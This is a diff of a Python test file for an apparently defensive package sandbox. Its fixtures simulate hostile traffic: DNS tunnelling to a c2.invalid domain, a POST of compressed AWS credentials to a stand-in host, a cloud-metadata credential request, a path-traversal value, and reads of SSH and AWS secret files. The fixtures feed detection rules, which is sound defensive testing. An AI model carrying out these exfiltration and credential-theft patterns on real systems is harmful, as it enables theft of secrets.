@@ -39,12 +39,21 @@ WINDOWS = {Phase.INSTALL: (T0 - 10, T0 - 5), Phase.STARTUP: (T0 - 5, T0 - 1), Ph
 
 
 def ev(kind: EventKind, t: float, pid: int = 42, **kw: Any) -> Event:
-    return Event(phase=Phase.IMPORT, seq=int(t * 1000) % 100000, pid=pid, time=t,
-                 syscall=kw.pop("syscall", "x"), kind=kind, origin=Origin.CANDIDATE, **kw)
+    return Event(
+        phase=Phase.IMPORT,
+        seq=int(t * 1000) % 100000,
+        pid=pid,
+        time=t,
+        syscall=kw.pop("syscall", "x"),
+        kind=kind,
+        origin=Origin.CANDIDATE,
+        **kw,
+    )
 
 
-def write_capture(d: Path, recs: list[dict[str, Any]], payloads: dict[str, bytes] | None = None,
-                  enabled: bool = True) -> None:
+def write_capture(
+    d: Path, recs: list[dict[str, Any]], payloads: dict[str, bytes] | None = None, enabled: bool = True
+) -> None:
     info = {"enabled": enabled, "problems": [] if enabled else ["ip: boom"]}
     (d / "sinkhole.json").write_text(json.dumps(info))
     (d / "net.jsonl").write_text("".join(json.dumps(r) + "\n" for r in recs) + "{not json\n")
@@ -58,54 +67,187 @@ def capture(tmp_path: Path) -> NetworkCapture:
     body = base64.b64encode(gzip.compress(aws))
     stream = b"POST /u HTTP/1.1\r\nHost: up.example\r\nContent-Length: %d\r\n\r\n" % len(body) + body
     recs = [
-        {"kind": "dns", "t": T0 + 1, "phase": "import", "transport": "udp", "src": "192.168.1.9:40000",
-         "resolver": None, "pid": None, "argv": [], "name": f"{token[:40]}.{token[40:]}.c2.invalid",
-         "qtype": "A", "answer": "198.18.0.8"},
-        {"kind": "dns", "t": T0 + 1.5, "phase": "import", "transport": "udp", "src": "192.168.1.9:40002",
-         "pid": 43, "name": "up.example", "qtype": "A", "answer": "198.18.0.7"},
-        {"kind": "dns", "t": T0 + 1.1, "phase": "import", "transport": "udp", "src": "192.168.1.9:40001",
-         "pid": 42, "argv": list(ARGV), "name": "alex-xps", "qtype": "A", "answer": "192.168.1.9"},
-        {"kind": "dns", "t": T0 + 1.2, "phase": "setup", "malformed": True, "error": "short",
-         "raw_b64": "AAE=", "src": "x", "pid": None},
-        {"kind": "tcp", "id": 1, "t": T0 + 2, "phase": "import", "dst": "198.18.0.7:80", "bytes": len(stream),
-         "captured": len(stream), "truncated": False, "close_reason": "eof", "proto": "http", "pid": None,
-         "argv": [], "payload": "net-tcp-1.bin",
-         "http": [{"method": "POST", "target": "/u", "version": "HTTP/1.1",
-                   "headers": [["Host", "up.example"], ["Content-Length", str(len(body))]],
-                   "body_bytes": len(body), "body_b64": base64.b64encode(body).decode(), "complete": True}]},
-        {"kind": "tcp", "id": 2, "t": T0 + 3, "phase": "import", "dst": "169.254.169.254:80", "bytes": 60,
-         "captured": 60, "truncated": False, "close_reason": "eof", "proto": "http", "pid": 42,
-         "payload": "../../etc/passwd",
-         "http": [{"method": "GET", "target": "/latest/meta-data/iam/security-credentials/",
-                   "version": "HTTP/1.1", "headers": [["Host", "169.254.169.254"]], "body_bytes": 0,
-                   "body_b64": ""}]},
-        {"kind": "tcp", "id": 3, "t": T0 + 4, "phase": "import", "dst": "[2001:db8::5]:443", "bytes": 300,
-         "captured": 300, "truncated": False, "close_reason": "eof", "proto": "tls", "pid": 42,
-         "tls": {"sni": "tls.c2.invalid", "alpn": ["h2"], "version": "TLS 1.3"}},
-        {"kind": "tcp", "id": 4, "t": T0 + 5, "phase": "import", "dst": "203.0.113.9:8080",
-         "bytes": 5_000_000, "captured": 65536, "truncated": True, "close_reason": "eof", "proto": "unknown",
-         "pid": 42},
-        {"kind": "udp", "t": T0 + 6, "phase": "import", "src": "192.168.1.9:5555", "bytes": 11,
-         "captured": 11, "truncated": False, "data_b64": base64.b64encode(b"hello there").decode(),
-         "pid": None, "argv": []},
-        {"kind": "stats", "t": T0 + 9, "tcp_evicted": 3, "suppressed": {"tcp": 4, "udp": 0, "dns": 0},
-         "budget_hit": False},
+        {
+            "kind": "dns",
+            "t": T0 + 1,
+            "phase": "import",
+            "transport": "udp",
+            "src": "192.168.1.9:40000",
+            "resolver": None,
+            "pid": None,
+            "argv": [],
+            "name": f"{token[:40]}.{token[40:]}.c2.invalid",
+            "qtype": "A",
+            "answer": "198.18.0.8",
+        },
+        {
+            "kind": "dns",
+            "t": T0 + 1.5,
+            "phase": "import",
+            "transport": "udp",
+            "src": "192.168.1.9:40002",
+            "pid": 43,
+            "name": "up.example",
+            "qtype": "A",
+            "answer": "198.18.0.7",
+        },
+        {
+            "kind": "dns",
+            "t": T0 + 1.1,
+            "phase": "import",
+            "transport": "udp",
+            "src": "192.168.1.9:40001",
+            "pid": 42,
+            "argv": list(ARGV),
+            "name": "alex-xps",
+            "qtype": "A",
+            "answer": "192.168.1.9",
+        },
+        {
+            "kind": "dns",
+            "t": T0 + 1.2,
+            "phase": "setup",
+            "malformed": True,
+            "error": "short",
+            "raw_b64": "AAE=",
+            "src": "x",
+            "pid": None,
+        },
+        {
+            "kind": "tcp",
+            "id": 1,
+            "t": T0 + 2,
+            "phase": "import",
+            "dst": "198.18.0.7:80",
+            "bytes": len(stream),
+            "captured": len(stream),
+            "truncated": False,
+            "close_reason": "eof",
+            "proto": "http",
+            "pid": None,
+            "argv": [],
+            "payload": "net-tcp-1.bin",
+            "http": [
+                {
+                    "method": "POST",
+                    "target": "/u",
+                    "version": "HTTP/1.1",
+                    "headers": [["Host", "up.example"], ["Content-Length", str(len(body))]],
+                    "body_bytes": len(body),
+                    "body_b64": base64.b64encode(body).decode(),
+                    "complete": True,
+                }
+            ],
+        },
+        {
+            "kind": "tcp",
+            "id": 2,
+            "t": T0 + 3,
+            "phase": "import",
+            "dst": "169.254.169.254:80",
+            "bytes": 60,
+            "captured": 60,
+            "truncated": False,
+            "close_reason": "eof",
+            "proto": "http",
+            "pid": 42,
+            "payload": "../../etc/passwd",
+            "http": [
+                {
+                    "method": "GET",
+                    "target": "/latest/meta-data/iam/security-credentials/",
+                    "version": "HTTP/1.1",
+                    "headers": [["Host", "169.254.169.254"]],
+                    "body_bytes": 0,
+                    "body_b64": "",
+                }
+            ],
+        },
+        {
+            "kind": "tcp",
+            "id": 3,
+            "t": T0 + 4,
+            "phase": "import",
+            "dst": "[2001:db8::5]:443",
+            "bytes": 300,
+            "captured": 300,
+            "truncated": False,
+            "close_reason": "eof",
+            "proto": "tls",
+            "pid": 42,
+            "tls": {"sni": "tls.c2.invalid", "alpn": ["h2"], "version": "TLS 1.3"},
+        },
+        {
+            "kind": "tcp",
+            "id": 4,
+            "t": T0 + 5,
+            "phase": "import",
+            "dst": "203.0.113.9:8080",
+            "bytes": 5_000_000,
+            "captured": 65536,
+            "truncated": True,
+            "close_reason": "eof",
+            "proto": "unknown",
+            "pid": 42,
+        },
+        {
+            "kind": "udp",
+            "t": T0 + 6,
+            "phase": "import",
+            "src": "192.168.1.9:5555",
+            "bytes": 11,
+            "captured": 11,
+            "truncated": False,
+            "data_b64": base64.b64encode(b"hello there").decode(),
+            "pid": None,
+            "argv": [],
+        },
+        {
+            "kind": "stats",
+            "t": T0 + 9,
+            "tcp_evicted": 3,
+            "suppressed": {"tcp": 4, "udp": 0, "dns": 0},
+            "budget_hit": False,
+        },
     ]
     write_capture(tmp_path, recs, {"net-tcp-1.bin": stream})
     events = [
-        ev(EventKind.CONNECT, T0 + 0.99, pid=43, syscall="connect",
-           address=Address(family="inet", host="192.168.1.1", port=53)),
-        ev(EventKind.CONNECT, T0 + 1.99, pid=43, syscall="connect",
-           address=Address(family="inet", host="198.18.0.7", port=80)),
-        ev(EventKind.SEND, T0 + 6.0, pid=44, syscall="sendto", size=11,
-           address=Address(family="inet", host="198.51.100.3", port=4444)),
-        ev(EventKind.SEND, T0 + 6.1, pid=45, syscall="sendto", size=99,
-           address=Address(family="inet", host="198.51.100.99", port=4444)),
+        ev(
+            EventKind.CONNECT,
+            T0 + 0.99,
+            pid=43,
+            syscall="connect",
+            address=Address(family="inet", host="192.168.1.1", port=53),
+        ),
+        ev(
+            EventKind.CONNECT,
+            T0 + 1.99,
+            pid=43,
+            syscall="connect",
+            address=Address(family="inet", host="198.18.0.7", port=80),
+        ),
+        ev(
+            EventKind.SEND,
+            T0 + 6.0,
+            pid=44,
+            syscall="sendto",
+            size=11,
+            address=Address(family="inet", host="198.51.100.3", port=4444),
+        ),
+        ev(
+            EventKind.SEND,
+            T0 + 6.1,
+            pid=45,
+            syscall="sendto",
+            size=99,
+            address=Address(family="inet", host="198.51.100.99", port=4444),
+        ),
         ev(EventKind.FILE_READ, T0 + 0.5, path=f"{HOME}/.aws/credentials", syscall="openat"),
         ev(EventKind.FILE_READ, T0 + 0.6, path=f"{HOME}/.ssh/id_rsa", syscall="openat", errno="EACCES"),
     ]
-    procs = [ProcessInfo(pid=p, ppid=1, phase=Phase.IMPORT, argv=ARGV, exe=ARGV[0], start=T0)
-             for p in (42, 43, 44)]
+    procs = [
+        ProcessInfo(pid=p, ppid=1, phase=Phase.IMPORT, argv=ARGV, exe=ARGV[0], start=T0) for p in (42, 43, 44)
+    ]
     return network_capture(tmp_path, events, procs, WINDOWS, TOKENS, HOME)
 
 
@@ -153,8 +295,11 @@ def test_network_rules(tmp_path: Path) -> None:
     assert by["PS012"].evidence[0].path == f"{HOME}/.aws/credentials"
     assert {"PS010", "PS011", "PS012"} <= set(CATALOGUE)
     # the profile can allow names and override or disable the rules
-    profile = Profile(name="t", allow=AllowConf(network=(NetworkRule(host="*.c2.invalid"),)),
-                      rules=RulesConf(disabled=("PS012",), severity={"PS010": Severity.HIGH}))
+    profile = Profile(
+        name="t",
+        allow=AllowConf(network=(NetworkRule(host="*.c2.invalid"),)),
+        rules=RulesConf(disabled=("PS012",), severity={"PS010": Severity.HIGH}),
+    )
     findings = evaluate_network(net, profile, hostname="alex-xps")
     ids = {f.rule_id: f for f in findings}
     assert "PS012" not in ids and ids["PS010"].severity is Severity.HIGH
@@ -178,9 +323,23 @@ def test_quiet_and_disabled_sections(tmp_path: Path) -> None:
 
 def test_report_round_trip_and_terminal(tmp_path: Path) -> None:
     net = capture(tmp_path)
-    report = Report(tool_version="t", target="x", started=T0, finished=T0 + 1, profile="default", image=None,
-                    artifacts=(), phases=(), summary=(), processes=(), events=(), findings=(),
-                    verdict=Verdict.CLEAN, verdict_reason="", network=net)
+    report = Report(
+        tool_version="t",
+        target="x",
+        started=T0,
+        finished=T0 + 1,
+        profile="default",
+        image=None,
+        artifacts=(),
+        phases=(),
+        summary=(),
+        processes=(),
+        events=(),
+        findings=(),
+        verdict=Verdict.CLEAN,
+        verdict_reason="",
+        network=net,
+    )
     again = Report.model_validate(json.loads(report.model_dump_json()))
     assert again.network == net
     out = io.StringIO()
